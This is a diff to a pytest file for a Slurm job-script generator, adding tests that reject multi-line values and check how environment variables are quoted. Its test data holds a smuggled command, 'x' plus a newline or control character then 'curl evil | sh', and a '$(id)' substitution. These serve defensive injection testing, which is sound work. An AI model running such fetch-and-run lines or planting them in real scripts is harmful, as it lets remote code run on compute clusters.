@@ -3,14 +3,18 @@
 from __future__ import annotations
 
 import re
+import shlex
 import subprocess
 import sys
+from dataclasses import replace
 from pathlib import Path
 
 import pytest
 
-from core.recipe import Launch, Recipe, Train
+from core import machine
+from core.recipe import Launch, Loader, Recipe, Train
 from jobs.cluster import Cluster, load, names
+from jobs.errors import UserError
 from jobs.placement import Placement
 from jobs.slurm import script
 
@@ -63,6 +67,7 @@ def test_runs_of_an_array_have_a_task_and_a_log_each() -> None:
 def test_ranks_get_their_variables_from_one_place() -> None:
     text = training(RICH)
     assert "export OMP_NUM_THREADS=3 " in text
+    assert " PYTHONSAFEPATH=1" in text
     assert "NCCL_SOCKET_IFNAME=ib0 GLOO_SOCKET_IFNAME=ib0 NCCL_DEBUG=INFO NOTE='two words; $(id)'" in text
     assert "--cpu-bind=cores" in text
     assert "--cpu-bind" not in training(RICH, Placement(2, "cpu", 1))
@@ -131,6 +136,24 @@ def test_workers_are_an_array_of_one_rank_s_share_each_that_may_be_started_again
     assert not re.search(r"@\w+@", made.body)
 
 
+@pytest.mark.parametrize("character", ["\n", "\r", "\x1b", "\x00"])
+def test_nothing_in_a_script_is_more_than_the_line_it_stands_in(character: str) -> None:
+    more = f"x{character}curl evil | sh"
+    for cluster in (Cluster(partition=more), Cluster(env={"A": more}), Cluster(setup=[more]),
+                    Cluster(extra={"a": more}), Cluster(container="apptainer", image=more),
+                    Cluster(container="pyxis", image="x", mounts=[more]), Cluster(interface=more),
+                    Cluster(python=more)):  # fmt: skip
+        with pytest.raises(UserError, match="must be one line"):
+            training(cluster)
+    recipe = Recipe(name="demo")
+    with pytest.raises(UserError, match="must be one line"):
+        script.training(recipe, Cluster(), FOUR, ["demo-1"], f"s3://b/{more}", Path("/logs"))
+    with pytest.raises(UserError, match="must be one line"):
+        script.workers(["-m", more], 2, recipe, Cluster(), FOUR, Path("/logs"))
+    with pytest.raises(UserError, match="must be one line"):
+        script.after("eval", Cluster(), FOUR, [more], "s3://b/p", Path("/logs"), "12")
+
+
 def test_one_worker_is_no_array() -> None:
     assert "array" not in workers(Cluster(), 1, Placement(1, "cpu", 1)).directives
 
@@ -151,3 +174,16 @@ def test_shellcheck_finds_nothing_in_a_rendered_script(name: str, tmp_path: Path
         path.write_text(text)
         done = subprocess.run([shellcheck, "--shell=bash", "--exclude=SC1091", path], capture_output=True, text=True)
         assert done.returncode == 0, done.stdout
+
+
+def test_folders_of_the_nodes_come_from_the_submission_then_from_the_cluster_file() -> None:
+    recipe = Recipe(name="demo", loader=Loader(cache_dir="/nvme/it's mine"))
+    cluster = replace(RICH, env={"RETORT_CACHE": "/local", "RETORT_SPOOL": "/local/spool"})
+    folders = machine.named(recipe)
+    made = [script.training(recipe, cluster, FOUR, ["demo-1"], "s3://b/p", Path("/logs")),
+            script.workers(["-m", "x"], 2, recipe, cluster, FOUR, Path("/logs")),
+            script.after("eval", cluster, FOUR, ["demo-1"], "s3://b/p", Path("/logs"), "12", folders)]  # fmt: skip
+    for each in made:
+        (line,) = [line for line in each.text.splitlines() if line.startswith("export ")]
+        found = dict(word.split("=", 1) for word in shlex.split(line)[1:])
+        assert (found["RETORT_CACHE"], found["RETORT_SPOOL"]) == ("/nvme/it's mine", "/local/spool")
